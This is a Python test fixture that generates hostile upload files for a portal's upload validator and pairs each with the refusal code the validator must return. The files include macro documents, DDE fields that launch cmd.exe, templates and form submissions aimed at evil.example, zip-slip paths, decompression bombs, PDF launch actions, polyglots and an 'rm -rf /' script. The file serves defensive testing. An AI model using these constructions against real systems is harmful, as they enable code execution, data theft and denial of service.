"""Hostile files, made on the spot: what each is, where it is uploaded, and what must become of it."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

from PIL import Image

from guanshu.portal.models import StoredFile
from tests.survey.intake import makers

STORED = "stored"
WORD, ARCHIVE, GENERAL, SCAN = "annual_summary", "free_report", "plan", StoredFile.STAMP
SCRIPT = b"<script>alert(document.cookie)</script>"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
REL = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" '
    b'Target="%s" TargetMode="External"/></Relationships>'
)


@dataclass(frozen=True)
class Hostile:
    """One file: `expected` is the refusal's code, or STORED."""

    name: str
    purpose: str
    filename: str
    make: Callable[[Path], bytes]
    expected: str


def docx(parts: dict[str, bytes]) -> Callable[[Path], bytes]:
    return lambda _: makers.with_parts(makers.word(), parts)


def types(old: bytes, new: bytes) -> Callable[[Path], bytes]:
    def make(_: Path) -> bytes:
        with zipfile.ZipFile(io.BytesIO(makers.word())) as pack:
            found = pack.read("[Content_Types].xml")
        assert old in found
        return makers.with_parts(makers.word(), {"[Content_Types].xml": found.replace(old, new)})

    return make


def relation(kind: bytes, target: bytes) -> Callable[[Path], bytes]:
    return docx({"word/_rels/settings.xml.rels": REL % (kind, target)})


def field(*pieces: bytes) -> Callable[[Path], bytes]:
    runs = b"".join(b"<w:r><w:instrText>%s</w:instrText></w:r>" % piece for piece in pieces)

    def make(_: Path) -> bytes:
        with zipfile.ZipFile(io.BytesIO(makers.word())) as pack:
            body = pack.read("word/document.xml")
        return makers.with_parts(makers.word(), {"word/document.xml": body.replace(b"<w:sectPr", runs + b"<w:sectPr")})

    return make


def archive(**more: bytes) -> Callable[[Path], bytes]:
    return lambda _: makers.make_zip({**makers.full(), **{n.replace("__", "/"): d for n, d in more.items()}})


def members(more: dict[str, bytes]) -> Callable[[Path], bytes]:
    return lambda _: makers.make_zip({**makers.full(), **more})


def link(_: Path) -> bytes:
    buffer = io.BytesIO(makers.make_zip(makers.full()))
    with zipfile.ZipFile(buffer, "a") as pack:
        info = zipfile.ZipInfo("照片/9.jpg")
        info.external_attr = 0o120777 << 16
        pack.writestr(info, "/etc/passwd")
    return buffer.getvalue()


def encrypted_zip(_: Path) -> bytes:
    data = bytearray(makers.make_zip(makers.full()))
    at = -1
    for mark, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = -1
        while (at := data.find(mark, at + 1)) >= 0:
            data[at + flags] |= 1
    return bytes(data)


def overlapping(_: Path) -> bytes:
    """Let every member of the list be the same bytes (the bomb of David Fifield)."""
    data = bytearray(makers.make_zip({**makers.full(), "a.bin": bytes(1 << 20), "b.bin": bytes(1 << 20)}))
    places = []
    at = -1
    while (at := data.find(b"PK\x01\x02", at + 1)) >= 0:
        places.append(at)
    first = data[places[0] + 42 : places[0] + 46]
    for place in places[1:]:
        data[place + 42 : place + 46] = first
    return bytes(data)


def lying_sizes(_: Path) -> bytes:
    data = bytearray(makers.make_zip({**makers.full(), "big.bin": bytes(600 * 1024 * 1024)}))
    at = data.rfind(b"PK\x01\x02")
    while data[at + 46 : at + 53] != b"big.bin":
        at = data.rfind(b"PK\x01\x02", 0, at)
    data[at + 24 : at + 28] = struct.pack("<I", 1000)
    return bytes(data)


def bomb(_: Path) -> bytes:
    return makers.make_zip({**makers.full(), "zeros.txt": bytes(80 * 1024 * 1024)})


def crowd(_: Path) -> bytes:
    return makers.make_zip({**makers.full(), **{f"n/{n}.txt": b"" for n in range(2100)}}, zipfile.ZIP_STORED)


def quine_like(_: Path) -> bytes:
    inner = makers.make_zip({"deeper.zip": makers.make_zip({"x": bytes(1000)})})
    return makers.make_zip({**makers.full(), "again.zip": inner})


def pdf(*objects: bytes, root: bytes = b"") -> Callable[[Path], bytes]:
    """Return a PDF with more objects, and with `root` in its catalogue."""

    def make(_: Path) -> bytes:
        body = b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R" + root + b">>endobj\n"
        body += b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n"
        for number, each in enumerate(objects, 4):
            body += b"%d 0 obj%sendobj\n" % (number, each)
        return body + b"trailer<</Root 1 0 R/Size 9>>\n%%EOF\n"

    return make


def object_stream(inner: bytes) -> bytes:
    packed = zlib.compress(b"4 0 " + inner)
    return b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(packed) + packed + b"\nendstream "


def endless(_: Path) -> bytes:
    """Claim a million pages that are all the same node."""
    return pdf()(_).replace(b"/Kids[3 0 R]/Count 1", b"/Kids[2 0 R 2 0 R 3 0 R]/Count 1000000")


def png(width: int, height: int, tail: bytes = b"") -> Callable[[Path], bytes]:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    def make(_: Path) -> bytes:
        head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"\0")) + chunk(b"IEND", b"") + tail

    return make


def jpeg(width: int, height: int) -> Callable[[Path], bytes]:
    def make(_: Path) -> bytes:
        data = bytearray(makers.picture())
        at = data.find(b"\xff\xc0")
        data[at + 5 : at + 9] = struct.pack(">HH", height, width)
        return bytes(data)

    return make


def located(_: Path) -> bytes:
    """Return a photograph that says where it was taken."""
    exif = Image.Exif()
    exif[0x010F] = "Camera"
    exif.get_ifd(0x8825)[1] = "N"
    buffer = io.BytesIO()
    Image.new("RGB", (40, 30), "red").save(buffer, "JPEG", exif=exif)
    return buffer.getvalue()


def fuzz(seed: int, start: bytes) -> Callable[[Path], bytes]:
    return lambda _: start + random.Random(seed).randbytes(3000)


def given(data: bytes) -> Callable[[Path], bytes]:
    return lambda _: data


PDF_HEAD = b"%PDF-1.7\n"
MAIN = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
FILES: tuple[tuple[str, str, str, Callable[[Path], bytes], str], ...] = (
    # Word
    ("docm by its content type", WORD, "总结.docx", types(MAIN, b"application/vnd.ms-word.document.macroEnabled.main+xml"), "macros"),
    ("vbaProject in a docx", WORD, "总结.docx", docx({"word/vbaProject.bin": b"x"}), "macros"),
    ("vbaProject under another folder", WORD, "总结.docx", docx({"custom/VBAPROJECT.BIN": b"x"}), "macros"),
    ("macros in an old doc", WORD, "总结.doc", lambda _: makers.old_word(Macros=b"x"), "macros"),
    ("a VBA storage in an old doc", WORD, "总结.doc", lambda _: makers.old_word(VBA=b"x"), "macros"),
    ("a packed program in an old doc", WORD, "总结.doc", lambda _: makers.old_word(**{"\x01Ole10Native": b"MZ"}), "embedded"),
    ("a packed program in a docx", WORD, "总结.docx", docx({"word/embeddings/oleObject1.bin": b"MZ"}), "embedded"),
    ("a workbook with macros inside", WORD, "总结.docx", docx({"word/embeddings/a.xlsx": makers.make_zip({"xl/vbaProject.bin": b"x"})}), "embedded"),
    ("no workbook inside after all", WORD, "总结.docx", docx({"word/embeddings/a.xlsx": b"MZ"}), "embedded"),
    ("a control", WORD, "总结.docx", docx({"word/activeX/activeX1.bin": b"x"}), "embedded"),
    ("a foreign page inside", WORD, "总结.docx", docx({"word/afchunk1.mht": SCRIPT}), "embedded"),
    ("a script inside", WORD, "总结.docx", docx({"word/media/run.vbs": b"x"}), "embedded"),
    ("a vector picture with a script", WORD, "总结.docx", docx({"word/media/image1.svg": SCRIPT}), "embedded"),
    ("a template from the network", WORD, "总结.docx", relation(b"attachedTemplate", b"http://evil.example/a.dotm"), "external"),
    ("a template from a shared folder", WORD, "总结.docx", relation(b"attachedTemplate", b"\\\\evil\\share\\a.dotm"), "external"),
    ("an object from the network", WORD, "总结.docx", relation(b"oleObject", b"https://evil.example/x"), "external"),
    ("a frame from the network", WORD, "总结.docx", relation(b"frame", b"https://evil.example/x"), "external"),
    ("a picture from a shared folder", WORD, "总结.docx", relation(b"image", b"\\\\evil\\share\\a.png"), "external"),
    ("a field that starts a program", WORD, "总结.docx", field(b' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" '), "fields"),
    ("the same field in pieces", WORD, "总结.docx", field(b" DD", b"E cmd ", b"calc"), "fields"),
    ("a docx with a password", WORD, "总结.docx", lambda _: makers.ole({"EncryptedPackage": b"x", "EncryptionInfo": b"x"}), "encrypted"),
    ("a doc with a password", WORD, "总结.doc", lambda _: makers.old_word(flags=0x100), "encrypted"),
    ("a docx bomb", WORD, "总结.docx", docx({"word/media/x.bmp": bytes(210 * 1024 * 1024)}), "bomb"),
    ("a program called docx", WORD, "总结.docx", given(b"MZ\x90\0" + bytes(500)), "no_word"),
    ("a web page called doc", WORD, "总结.doc", given(b"<html>" + SCRIPT), "other_text"),
    ("an RTF called doc", WORD, "总结.doc", given(b"{\\rtf1{\\object\\objdata 0105}}"), "other_text"),
    ("a program in front of a docx", WORD, "总结.docx", lambda _: b"MZ" + makers.word(), "no_word"),
    ("a page in front of a docx", WORD, "总结.docx", lambda _: b"<html>" + makers.word(), "other_text"),
    ("a docx behind a docx", WORD, "总结.docx", lambda _: makers.word() + makers.word(), "damaged"),
    ("a looping old doc", WORD, "总结.doc", lambda _: makers.old_word()[:512] + bytes(1024), "damaged"),
    # archives
    ("a path upwards", ARCHIVE, "a.zip", members({"../../etc/cron.d/x": b"x"}), "traversal"),
    ("a path upwards, Windows", ARCHIVE, "a.zip", members({"..\\..\\x.txt": b"x"}), "traversal"),
    ("a path from the root", ARCHIVE, "a.zip", members({"/etc/passwd": b"x"}), "traversal"),
    ("a path with a drive", ARCHIVE, "a.zip", members({"C:\\Windows\\x.txt": b"x"}), "traversal"),
    ("a path of the network", ARCHIVE, "a.zip", members({"\\\\evil\\x.txt": b"x"}), "traversal"),
    ("a control character in a name", ARCHIVE, "a.zip", members({"a\x1b[2Jb.txt": b"x"}), "traversal"),
    ("a symbolic link", ARCHIVE, "a.zip", link, "link"),
    ("a password", ARCHIVE, "a.zip", encrypted_zip, "encrypted"),
    ("a bomb", ARCHIVE, "a.zip", bomb, "bomb"),
    ("members on top of each other", ARCHIVE, "a.zip", overlapping, "damaged"),
    ("a member larger than it says", ARCHIVE, "a.zip", lying_sizes, "damaged"),
    ("two thousand members", ARCHIVE, "a.zip", crowd, "too_many"),
    ("an archive in the archive", ARCHIVE, "a.zip", quine_like, "nested"),
    ("a rar in the archive", ARCHIVE, "a.zip", members({"x.rar": b"Rar!\x1a\x07\x01\0" + bytes(99)}), "nested"),
    ("a program in the archive", ARCHIVE, "a.zip", members({"看图.exe": b"MZ" + bytes(99)}), "program"),
    ("a program called a picture", ARCHIVE, "a.zip", members({"9.jpg": b"MZ" + bytes(99)}), "program"),
    ("a script in the archive", ARCHIVE, "a.zip", members({"x.js": b"WScript.Echo(1)"}), "program"),
    ("a shortcut in the archive", ARCHIVE, "a.zip", members({"x.lnk": b"L\0\0\0\x01\x14\x02\0"}), "program"),
    ("an ELF in the archive", ARCHIVE, "a.zip", members({"readme": b"\x7fELF" + bytes(99)}), "program"),
    ("macros in the archive", ARCHIVE, "a.zip", members({"二.docx": makers.with_parts(makers.word(), {"word/vbaProject.bin": b"x"})}), "macros"),
    ("an archive in front of a program", ARCHIVE, "a.zip", lambda _: b"MZ" + makers.make_zip(makers.full()), "no_archive"),
    ("a picture that is an archive (GIFAR)", ARCHIVE, "a.zip", lambda _: b"GIF89a" + bytes(20) + makers.make_zip(makers.full()), "no_archive"),
    ("an archive behind junk", ARCHIVE, "a.zip", lambda _: b"PK\x03\x04junk" + makers.make_zip(makers.full()), "damaged"),
    ("a torn 7z", ARCHIVE, "a.7z", fuzz(1, b"7z\xbc\xaf\x27\x1c\0\x04"), "damaged"),
    ("a torn rar", ARCHIVE, "a.rar", fuzz(2, b"Rar!\x1a\x07\x01\0"), "damaged"),
    ("a torn zip", ARCHIVE, "a.zip", fuzz(3, b"PK\x03\x04"), "damaged"),
    ("a 7z bomb", ARCHIVE, "a.7z", lambda place: makers.make_7z(place, {"zeros": bytes(120 * 1024 * 1024)}), "bomb"),
    # PDF
    ("a PDF with a script", GENERAL, "a.pdf", pdf(b"<</S/JavaScript/JS(app.alert(1))>>", root=b"/OpenAction 4 0 R"), "script"),
    ("a PDF with a script by another spelling", GENERAL, "a.pdf", pdf(b"<</S/J#61vaScript/J#53(app.alert(1))>>"), "script"),
    ("a PDF with a packed script", GENERAL, "a.pdf", pdf(object_stream(b"<</S/JavaScript/JS(x)>>")), "script"),
    ("a PDF that starts a program", GENERAL, "a.pdf", pdf(b"<</S/Launch/F(cmd.exe)>>"), "launch"),
    ("a PDF that sends data", GENERAL, "a.pdf", pdf(b"<</S/SubmitForm/F(http://evil.example)>>"), "launch"),
    ("a PDF with a file inside", GENERAL, "a.pdf", pdf(b"<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream "), "embedded"),
    ("a PDF with a film", GENERAL, "a.pdf", pdf(b"<</Subtype/RichMedia>>"), "embedded"),
    ("a PDF with a form of its own", GENERAL, "a.pdf", pdf(b"<</XFA 5 0 R>>"), "embedded"),
    ("a PDF with a password", GENERAL, "a.pdf", lambda p: pdf()(p).replace(b"/Size 9", b"/Size 9/Encrypt 4 0 R"), "encrypted"),
    ("a PDF bomb", GENERAL, "a.pdf", pdf(object_stream(bytes(20 * 1024 * 1024))), "bomb"),
    ("a PDF that is an archive", GENERAL, "a.pdf", lambda _: makers.pdf(1) + makers.make_zip(makers.full()), "polyglot"),
    ("a page in front of a PDF", GENERAL, "a.pdf", lambda _: b"<html>" + SCRIPT + makers.pdf(1), "polyglot"),
    ("a picture in front of a PDF", GENERAL, "a.jpg", lambda _: b"GIF89a" + makers.pdf(1), "wrong_kind"),
    ("endless pages in a scan", SCAN, "a.pdf", endless, "too_many_pages"),
    ("a thousand pages in a scan", SCAN, "a.pdf", lambda _: makers.pdf(200), "too_many_pages"),
    ("a torn scan", SCAN, "a.pdf", fuzz(4, PDF_HEAD), "damaged"),
    ("a script in a scan", SCAN, "a.pdf", pdf(b"<</S/JavaScript/JS(x)>>"), "script"),
    # pictures
    ("a picture of 60000 × 60000", GENERAL, "a.png", png(60000, 60000), "pixels"),
    ("a photograph of 60000 × 60000", GENERAL, "a.jpg", jpeg(60000, 60000), "pixels"),
    ("a line of 100000 pixels", GENERAL, "a.png", png(100000, 1), "pixels"),
    ("a picture without a size", GENERAL, "a.png", png(0, 0), "damaged"),
    ("a picture flood as a scan", SCAN, "a.png", png(60000, 60000), "pixels"),
    ("a page behind a photograph", GENERAL, "a.jpg", lambda _: makers.picture() + SCRIPT, "polyglot"),
    ("an archive behind a photograph", GENERAL, "a.jpg", lambda _: makers.picture() + makers.make_zip(makers.full()), "polyglot"),
    ("a page behind a picture", GENERAL, "a.png", png(4, 4, SCRIPT), "polyglot"),
    ("a torn photograph", GENERAL, "a.jpg", fuzz(5, b"\xff\xd8\xff\xe0"), "damaged"),
    # what is none of these
    ("a vector picture called png", GENERAL, "a.png", given(b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>"), "wrong_kind"),
    ("a page called pdf", GENERAL, "a.pdf", given(b"<!DOCTYPE html>" + SCRIPT), "wrong_kind"),
    ("a page with a BOM", GENERAL, "a.pdf", given(b"\xef\xbb\xbf <html>" + SCRIPT), "wrong_kind"),
    ("a shell script", GENERAL, "a.pdf", given(b"#!/bin/sh\nrm -rf /\n"), "wrong_kind"),
    ("the test virus as text", GENERAL, "a.pdf", given(EICAR), "wrong_kind"),
    ("nothing", GENERAL, "a.pdf", given(b""), "empty"),
    ("an animated GIF", GENERAL, "a.jpg", given(b"GIF89a" + bytes(50)), "wrong_kind"),
    ("a TIFF", GENERAL, "a.jpg", given(b"II*\0" + bytes(50)), "wrong_kind"),
    ("a disk image", ARCHIVE, "a.iso", given(bytes(0x8001) + b"CD001" + bytes(99)), "no_archive"),
    ("a cabinet", ARCHIVE, "a.zip", given(b"MSCF" + bytes(99)), "no_archive"),
    # harmless
    ("a photograph with a place", GENERAL, "a.jpg", located, STORED),
    ("a chart's own workbook", WORD, "总结.docx", docx({"word/embeddings/a.xlsx": makers.make_zip({"xl/workbook.xml": b"x"})}), STORED),
    ("a link in a document", WORD, "总结.docx", relation(b"hyperlink", b"https://evil.example/"), STORED),
    ("a page among the archive's files", ARCHIVE, "a.zip", members({"x.html": SCRIPT}), STORED),
    ("a page called picture in the archive", ARCHIVE, "a.zip", members({"8.jpg": SCRIPT}), STORED),
    ("bytes that look like a script in a picture's stream", GENERAL, "a.pdf", pdf(b"<</Length 9>>stream\n/JS /JavaScript\nendstream "), STORED),
    ("a name that turns around", GENERAL, "cod\u202efdp.exe", lambda _: makers.pdf(1), STORED),
    ("a name with a path", GENERAL, "../../../etc/passwd.pdf", lambda _: makers.pdf(1), STORED),
    ("a name with a header in it", GENERAL, 'a"\r\nSet-Cookie: x=1\r\n.pdf', lambda _: makers.pdf(1), STORED),
    ("a name of a device", GENERAL, "CON.pdf", lambda _: makers.pdf(1), STORED),
)  # fmt: skip


def hostile() -> Iterator[Hostile]:
    for each in FILES:
        yield Hostile(*each)
